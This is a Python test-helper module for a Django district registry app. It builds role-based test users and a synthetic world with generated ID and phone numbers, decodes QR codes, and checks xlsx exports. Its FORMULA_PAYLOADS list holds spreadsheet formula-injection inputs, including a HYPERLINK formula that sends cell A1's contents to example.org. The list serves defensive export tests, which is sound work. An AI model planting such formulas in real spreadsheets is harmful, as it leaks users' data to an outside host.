"""The fixed cast for persona tests, and small builders for test data.

``build_world()`` makes one district with two sub-districts; sub-district 江湾 has neighborhoods A and B, each
with a compound, a building and a household with one resident. The cast:

- ``hq``: HQ commander of 江湾
- ``staff_a`` / ``staff_b``: committee staff of neighborhood A / B
- ``cadre``: a support cadre whose scope is neighborhood A
- ``org_contact``: the contact of an organisation in neighborhood A
- ``office``: a functional office with the registry domain
- ``viewer``: a district viewer (read-only)
- ``auditor``: the sub-district's auditor
- ``other_hq``: HQ of the other sub-district
"""

from __future__ import annotations

import datetime as dt
import random
import re
from types import SimpleNamespace
from typing import Any

from stdnum.cn import ric

from fangkong.core.choices import Role
from fangkong.core.models import User

PASSWORD = "Fangkong-test-2020"
PERSONAS = ("hq", "staff_a", "staff_b", "cadre", "org_contact", "anonymous")


def make_id_number(
    rng: random.Random | None = None, *, region: str = "310109", birth: dt.date | None = None
) -> str:
    """A valid synthetic resident ID number (GB 11643) with a real region code and check digit."""
    rng = rng or random.Random()
    if birth is None:
        birth = dt.date(1940, 1, 1) + dt.timedelta(days=rng.randrange(0, 365 * 65))
    body = f"{region}{birth:%Y%m%d}{rng.randrange(0, 1000):03d}"
    return body + ric.calc_check_digit(body + "0")


def make_phone(rng: random.Random | None = None) -> str:
    rng = rng or random.Random()
    prefix = rng.choice(["135", "136", "138", "139", "150", "158", "186", "187", "189", "177"])
    return prefix + f"{rng.randrange(0, 10**8):08d}"


def make_user(username: str, role: str, *, password: str = PASSWORD, **fields: Any) -> User:
    hoods = fields.pop("neighborhoods", [])
    user = User(username=username, role=role, display_name=fields.pop("display_name", username), **fields)
    user.set_password(password)
    user.save()
    if hoods:
        user.neighborhoods.set(hoods)
    return user


def build_world(rng_seed: int = 7) -> SimpleNamespace:
    from fangkong.registry.models import (
        Building,
        Compound,
        District,
        Household,
        LineDepartment,
        Neighborhood,
        Organization,
        Resident,
        SubDistrict,
    )
    from fangkong.registry.services import set_personal

    rng = random.Random(rng_seed)
    w = SimpleNamespace()
    w.district = District.objects.create(name="虹口区", code="310109")
    w.sub = SubDistrict.objects.create(district=w.district, name="江湾镇街道", code="JW")
    w.other_sub = SubDistrict.objects.create(district=w.district, name="广中路街道", code="GZ")
    w.dept = LineDepartment.objects.create(district=w.district, name="区教育局", kind="education")
    w.hood_a = Neighborhood.objects.create(subdistrict=w.sub, name="安汾居民区", code="A")
    w.hood_b = Neighborhood.objects.create(subdistrict=w.sub, name="新南二居民区", code="B")
    w.hood_other = Neighborhood.objects.create(subdistrict=w.other_sub, name="广中居民区", code="C")
    for key, hood in (("a", w.hood_a), ("b", w.hood_b), ("c", w.hood_other)):
        compound = Compound.objects.create(
            subdistrict=hood.subdistrict, neighborhood=hood, name=f"{hood.name[:2]}小区"
        )
        building = Building.objects.create(
            subdistrict=hood.subdistrict, neighborhood=hood, compound=compound, name="1号"
        )
        household = Household.objects.create(
            subdistrict=hood.subdistrict,
            neighborhood=hood,
            building=building,
            room="101",
            address=f"{compound.name}1号101室",
        )
        resident = Resident(
            subdistrict=hood.subdistrict, neighborhood=hood, household=household, name=f"居民{key.upper()}"
        )
        set_personal(resident, {"id_number": make_id_number(rng), "phone": make_phone(rng)})
        resident.save()
        setattr(w, f"compound_{key}", compound)
        setattr(w, f"building_{key}", building)
        setattr(w, f"household_{key}", household)
        setattr(w, f"resident_{key}", resident)
    w.org_a = Organization.objects.create(
        subdistrict=w.sub, neighborhood=w.hood_a, name="上海银康老年公寓", kind="elderly_home"
    )
    w.org_b = Organization.objects.create(
        subdistrict=w.sub, neighborhood=w.hood_b, name="上海粤海大酒店", kind="hotel"
    )
    w.hq = make_user("hq", Role.HQ, subdistrict=w.sub, display_name="指挥部", may_reveal_personal_data=True)
    w.staff_a = make_user(
        "staff_a", Role.STAFF, subdistrict=w.sub, neighborhoods=[w.hood_a], display_name="居委A"
    )
    w.staff_b = make_user(
        "staff_b", Role.STAFF, subdistrict=w.sub, neighborhoods=[w.hood_b], display_name="居委B"
    )
    w.cadre = make_user(
        "cadre", Role.CADRE, subdistrict=w.sub, neighborhoods=[w.hood_a], display_name="下沉干部"
    )
    w.org_contact = make_user("org_contact", Role.ORG_CONTACT, subdistrict=w.sub, organization=w.org_a)
    w.office = make_user("office", Role.OFFICE, subdistrict=w.sub, domains=["registry"])
    w.viewer = make_user("viewer", Role.DISTRICT_VIEWER, district=w.district)
    w.auditor = make_user("auditor", Role.AUDITOR, subdistrict=w.sub)
    w.other_hq = make_user("other_hq", Role.HQ, subdistrict=w.other_sub)
    return w


def client_for(persona: str, world: SimpleNamespace) -> Any:
    """A Django test client logged in as ``persona`` (``anonymous`` stays logged out)."""
    from django.test import Client

    client = Client()
    if persona != "anonymous":
        client.force_login(getattr(world, persona))
    return client


def decode_qr_image(png: bytes) -> str:
    """The text of the one QR code in a PNG image. Fails unless there is exactly one code and it is a full QR
    code (Micro QR, which phone scanners cannot read, fails)."""
    import io

    import zxingcpp
    from PIL import Image

    image: Image.Image = Image.open(io.BytesIO(png))
    if image.mode in ("RGBA", "LA", "P"):  # transparent background: put it on white paper
        image = image.convert("RGBA")
        paper = Image.new("RGBA", image.size, "white")
        paper.alpha_composite(image)
        image = paper
    image = image.convert("L")
    found = zxingcpp.read_barcodes(image)
    assert len(found) == 1, f"expected one QR code, found {len(found)}"
    code = found[0]
    assert code.format == zxingcpp.BarcodeFormat.QRCode, f"not a full QR code: {code.format}"
    return str(code.text)


def decode_qr_svg(svg: str | bytes, *, width: int = 400) -> str:
    """Rasterize an SVG (a standalone document or an inline <svg> element, as the pages serve it) and decode
    its QR code with ``decode_qr_image``. Needs the cairo library (Debian's libcairo2, which chromium pulls in);
    the test is skipped without it."""
    import pytest

    try:
        import cairosvg
    except OSError:  # cairocffi found no libcairo
        pytest.skip("libcairo2 is not installed")
    import re

    text = svg.decode() if isinstance(svg, bytes) else svg
    opening = re.search(r"<svg\b[^>]*>", text)
    assert opening is not None, "no <svg> element"
    if "xmlns=" not in opening.group(0):  # an inline element: the HTML parser supplies the namespace
        text = text.replace("<svg", '<svg xmlns="http://www.w3.org/2000/svg"', 1)
    png = cairosvg.svg2png(bytestring=text.encode(), output_width=width, background_color="white")
    return decode_qr_image(png)


def decode_qr_in_html(html: str | bytes, *, index: int = 0) -> str:
    """Decode the ``index``-th QR code drawn inline in a page (segno's <svg class="segno"> elements)."""
    import re

    text = html.decode() if isinstance(html, bytes) else html
    svgs = re.findall(r"<svg\b[^>]*\bclass=\"segno\".*?</svg>", text, flags=re.S)
    assert len(svgs) > index, f"the page has {len(svgs)} QR code(s)"
    return decode_qr_svg(svgs[index])


# Texts that a spreadsheet program could run as a formula (OWASP), for the export tests of every format.
FORMULA_PAYLOADS = (
    "=1+2",
    '=HYPERLINK("http://example.org/?x="&A1,"点此")',
    "+86-21-1234",
    "-5",
    "@SUM(A1:A2)",
    "\t=1+2",
    "\r=1+2",
    "'=1+2",
    "#N/A",
)


def ooxml_text(value: str) -> str:
    """A stored cell text with OOXML's ``_xHHHH_`` escapes decoded, as Excel and python-calamine read it."""
    return re.sub(r"_x([0-9A-Fa-f]{4})_", lambda m: chr(int(m[1], 16)), value)


def xlsx_texts(content: Any) -> list[str]:
    """Every text cell of every sheet of an xlsx (bytes, path or file), as the import reads it back.

    Fails if any cell is a formula, or a text cell begins with a character that makes a formula."""
    import io
    from pathlib import Path

    from openpyxl import load_workbook

    from fangkong.core.spreadsheets import FORMULA_TRIGGERS, from_cell

    if isinstance(content, bytes | bytearray):
        content = io.BytesIO(content)
    elif isinstance(content, str | Path):
        content = str(content)
    texts: list[str] = []
    for sheet in load_workbook(content).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert cell.value[:1] not in FORMULA_TRIGGERS, (cell.coordinate, cell.value)
                    # decode OOXML's _xHHHH_ escapes as Excel and the import do (openpyxl keeps them)
                    texts.append(from_cell(ooxml_text(cell.value)))
    return texts
